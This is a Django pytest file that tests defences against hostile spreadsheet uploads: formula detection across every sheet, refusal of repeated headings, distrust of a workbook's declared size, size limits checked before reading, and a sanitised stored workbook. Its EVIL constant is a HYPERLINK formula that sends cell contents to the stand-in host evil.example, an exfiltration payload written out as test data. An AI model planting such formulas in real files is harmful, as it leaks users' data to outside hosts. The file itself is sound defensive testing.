"""Findings 5 and 10 of issue 15: every cell of every sheet is checked for formulas, repeated
headings are refused, the workbook's declared size is not believed, and a file is measured before
anything reads it. The file kept for the analyst never carries a formula."""

import io
import re
import zipfile

import openpyxl
import pytest
from django.core.files.uploadedfile import InMemoryUploadedFile, TemporaryUploadedFile
from django.urls import reverse
from openpyxl.workbook.defined_name import DefinedName

from assessments.data_returns.files import ReturnXLSX
from assessments.data_returns.models import DataReturn

from .test_data_returns import confirm, filled_csv, filled_xlsx, template_rows, upload

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click for the figures")'


def _workbook(rows, extra=None) -> bytes:
    """The filled template as a workbook; `extra(book)` adds to it before saving."""
    book = openpyxl.load_workbook(io.BytesIO(filled_xlsx(rows)))
    if extra:
        extra(book)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _refused(response, message):
    assert response.status_code == 400
    page = response.content.decode().replace("&quot;", '"').replace("&#x27;", "'")
    assert "nothing has been stored" in page
    assert message in page
    assert DataReturn.objects.count() == 0


def test_a_formula_in_another_sheet_is_refused(fire_client, fire_request):
    rows = template_rows(fire_client, fire_request)

    def notes_with_formula(book):
        book.create_sheet("Notes")["C7"] = EVIL

    data = _workbook(rows, notes_with_formula)
    _refused(
        upload(fire_client, fire_request, data, "return.xlsx"),
        "Sheet “Notes”, cell C7 holds a formula",
    )


def test_a_formula_in_an_unheaded_column_of_the_data_sheet_is_refused(fire_client, fire_request):
    rows = template_rows(fire_client, fire_request)

    def far_formula(book):
        book["Data"]["L3"] = EVIL

    data = _workbook(rows, far_formula)
    _refused(upload(fire_client, fire_request, data, "return.xlsx"), "cell L3 holds a formula")


def test_a_repeated_heading_is_refused(fire_client, fire_request):
    """dict(zip(headings, values)) kept only the last of two columns of one name."""
    rows = template_rows(fire_client, fire_request)
    good = filled_csv(rows).decode().splitlines()
    lines = [f"value,{good[0]}"] + [
        f'"{EVIL.replace(chr(34), chr(34) * 2)}",{line}' for line in good[1:]
    ]
    _refused(
        upload(fire_client, fire_request, "\r\n".join(lines).encode()),
        "repeated column value",
    )


def test_the_declared_dimension_of_a_sheet_is_not_believed():
    """A sheet may claim to span A1:XFD1048576; only its real cells are read."""
    book = openpyxl.Workbook()
    book.active.title = "Data"
    book.active.append(["request", "value"])
    book.active.append(["DR-1", 5])
    out = io.BytesIO()
    book.save(out)
    data = _with_dimension(out.getvalue(), "A1:Z40")
    dataset = ReturnXLSX().create_dataset(data)
    assert dataset.headers == ["request", "value"]
    assert list(dataset) == [("DR-1", 5)]


def _with_dimension(data: bytes, ref: str) -> bytes:
    source, target = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = re.sub(
                    rb'<dimension ref="[^"]*"', f'<dimension ref="{ref}"'.encode(), content
                )
            archive.writestr(item, content)
    return target.getvalue()


def test_a_cell_far_beyond_the_template_is_refused(fire_client, fire_request):
    rows = template_rows(fire_client, fire_request)

    def far_cell(book):
        book["Data"]["XFD900000"] = 1

    data = _workbook(rows, far_cell)
    _refused(upload(fire_client, fire_request, data, "return.xlsx"), "cell XFD900000")


def test_the_stored_workbook_holds_the_values_and_nothing_else(
    fire_client, fire_request, analyst, client
):
    rows = template_rows(fire_client, fire_request)

    def hidden_name(book):
        book.defined_names["figures"] = DefinedName("figures", attr_text=EVIL[1:])

    data = _workbook(rows, hidden_name)
    response = confirm(fire_client, fire_request, upload(fire_client, fire_request, data, "r.xlsx"))
    assert response.status_code == 302
    client.force_login(analyst)
    download = client.get(reverse("data_return_file", args=[DataReturn.objects.get().pk]))
    kept = openpyxl.load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert kept.sheetnames == ["Data"]
    assert len(kept.defined_names) == 0
    values = list(kept["Data"].iter_rows(values_only=True))
    assert values[0][:3] == ("request", "organisation", "indicator")
    assert [row[-1] for row in values[1:]] == [10 + n for n in range(len(rows))]


@pytest.fixture
def unread(monkeypatch):
    """Uploaded files whose content must not be read: reading one fails the test."""

    def never(self, *args):
        raise AssertionError("the upload was read")

    for kind in (InMemoryUploadedFile, TemporaryUploadedFile):
        monkeypatch.setattr(kind, "read", never)


def test_a_file_over_the_upload_limit_is_refused_before_it_is_read(
    fire_client, fire_request, settings, unread
):
    settings.UPLOAD_MAX_BYTES = 2_048
    rows = template_rows(fire_client, fire_request)
    response = upload(fire_client, fire_request, filled_csv(rows) + b"\r\n" * 2_000)
    _refused(response, "The file is larger than 2.0 KB")


def test_a_file_over_the_import_limit_is_refused_before_it_is_read(
    fire_client, fire_request, settings, unread
):
    settings.IMPORT_MAX_BYTES = 200
    rows = template_rows(fire_client, fire_request)
    _refused(upload(fire_client, fire_request, filled_csv(rows)), "files up to 200 bytes")


def test_large_uploads_stream_to_a_temporary_file(settings):
    assert settings.FILE_UPLOAD_MAX_MEMORY_SIZE <= 2_621_440
    assert settings.FILE_UPLOAD_HANDLERS[0] == "assessments.core.uploads.SizeLimitedUploadHandler"
    assert "django.core.files.uploadhandler.TemporaryFileUploadHandler" in (
        settings.FILE_UPLOAD_HANDLERS
    )
